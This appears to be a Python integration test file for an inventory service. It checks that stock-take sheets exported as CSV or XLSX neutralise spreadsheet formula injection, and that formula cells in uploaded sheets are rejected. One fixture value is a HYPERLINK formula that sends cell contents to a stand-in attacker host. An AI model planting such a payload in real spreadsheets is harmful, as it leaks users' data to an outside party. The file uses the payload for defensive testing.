"""Stock-take sheets over HTTP on real PostgreSQL: no spreadsheet injection on export, the exported
value read back on import, formula cells refused by name, and a bounded list of problems."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from allocation_support import fresh_engine
from http_support import STAFF, host_app, runtime
from openpyxl import load_workbook

from libs.database import create_engine, upgrade_schema
from services.allocation.entrypoints.http import build_router as allocation_router
from services.inventory.entrypoints.http import build_router

pytestmark = pytest.mark.integration

VERSIONS = Path(__file__).parents[2] / "services" / "inventory" / "adapters" / "migrations" / "versions"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
async def inventory(database_url: str) -> AsyncIterator[httpx.AsyncClient]:
    engine = create_engine(database_url, schema="inventory_it", pool_size=2)
    await upgrade_schema(engine, schema="inventory_it", versions_dir=VERSIONS)
    allocation_db = await fresh_engine(database_url)
    try:  # once inventory asks allocation what is reserved: the real allocation API answers
        from services.inventory.adapters.allocation_api import (  # type: ignore[import-not-found, unused-ignore]
            AllocationReservations,
        )
    except ImportError:
        app = host_app(build_router(runtime(engine)))
    else:
        allocation = host_app(allocation_router(runtime(allocation_db)))
        reservations = AllocationReservations("http://allocation", transport=httpx.ASGITransport(app=allocation))
        app = host_app(build_router(runtime(engine), reservations))  # type: ignore[call-arg, unused-ignore]
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://inventory",
                                 headers=STAFF) as client:
        location_id = f"WH-{uuid.uuid4().hex[:8]}"
        r = await client.post("/v1/locations", json={"location_id": location_id, "name": "Main", "country": "DE"})
        assert r.status_code == 201, r.text
        r = await client.post("/v1/receipts", json={"location_id": location_id, "reference": "GRN-1", "lines": [
            {"sku": EVIL, "bin": "A-01", "qty": 5}, {"sku": "-42", "bin": "@B", "lot": "+L1", "qty": 2}]})
        assert r.status_code == 201, r.text
        client.location_id = location_id  # type: ignore[attr-defined]
        yield client
    await engine.dispose()
    await allocation_db.dispose()


async def upload(client: httpx.AsyncClient, name: str, content: bytes) -> httpx.Response:
    return await client.post(
        "/v1/stocktakes",
        data={"location_id": client.location_id, "mode": "specific_bins"},  # type: ignore[attr-defined]
        files={"file": (name, content, "application/octet-stream")},
    )


async def test_xlsx_export_writes_text_not_formulas_and_reads_back_the_same(inventory: httpx.AsyncClient) -> None:
    r = await inventory.get("/v1/stocktakes/export",
                            params={"location_id": inventory.location_id, "format": "xlsx"})  # type: ignore[attr-defined]
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    ws = wb.active
    cells = {ws.cell(row, 1).value: ws.cell(row, 1) for row in range(2, ws.max_row + 1)}
    assert set(cells) == {EVIL, "-42"}
    assert all(c.data_type == "s" for c in cells.values())  # text, never a live formula
    for row in range(2, ws.max_row + 1):
        ws.cell(row, 6).value = 4
    counted = io.BytesIO()
    wb.save(counted)
    r = await upload(inventory, "count.xlsx", counted.getvalue())
    assert r.status_code == 201, r.text
    assert sorted((ln["sku"], ln["bin"], ln["lot"], ln["counted"]) for ln in r.json()["lines"]) == [
        ("-42", "@B", "+L1", 4), (EVIL, "A-01", "", 4)]


async def test_csv_export_escapes_formula_text_and_reads_back_the_same(inventory: httpx.AsyncClient) -> None:
    r = await inventory.get("/v1/stocktakes/export",
                            params={"location_id": inventory.location_id})  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(r.text)))
    assert {row[0] for row in rows[1:]} == {"'" + EVIL, "'-42"}
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    out = io.StringIO()
    csv.writer(out).writerows([rows[0], *([*row[:5], "3"] for row in rows[1:])])
    r = await upload(inventory, "count.csv", out.getvalue().encode())
    assert r.status_code == 201, r.text
    assert sorted((ln["sku"], ln["bin"], ln["lot"], ln["counted"]) for ln in r.json()["lines"]) == [
        ("-42", "@B", "+L1", 3), (EVIL, "A-01", "", 3)]


async def test_a_formula_cell_in_an_upload_is_named_as_a_formula(inventory: httpx.AsyncClient) -> None:
    r = await inventory.get("/v1/stocktakes/export",
                            params={"location_id": inventory.location_id, "format": "xlsx"})  # type: ignore[attr-defined]
    wb = load_workbook(io.BytesIO(r.content))
    ws = wb.active
    ws.cell(2, 6).value = "=2+2"
    ws.cell(3, 6).value = 1
    ws.cell(3, 1).value = "=A2"
    counted = io.BytesIO()
    wb.save(counted)
    r = await upload(inventory, "count.xlsx", counted.getvalue())
    assert r.status_code == 422, r.text
    assert [(d["field"], d["problem"]) for d in r.json()["detail"]] == [
        ("row 2.counted", "formula not allowed: enter the value itself"),
        ("row 3.sku", "formula not allowed: enter the value itself"),
    ]


async def test_a_sheet_with_many_problems_lists_the_first_thousand_and_the_total(inventory: httpx.AsyncClient) -> None:
    sheet = "sku,bin,lot,counted\n" + "".join(f"NOPE-{i},A-01,,1\n" for i in range(1500))
    r = await upload(inventory, "count.csv", sheet.encode())
    assert r.status_code == 422
    body = r.json()
    assert len(body["detail"]) == 1000 and body["problems_total"] == 1500 and body["problems_listed"] == 1000
    assert body["detail"][0]["field"] == "row 2.sku"
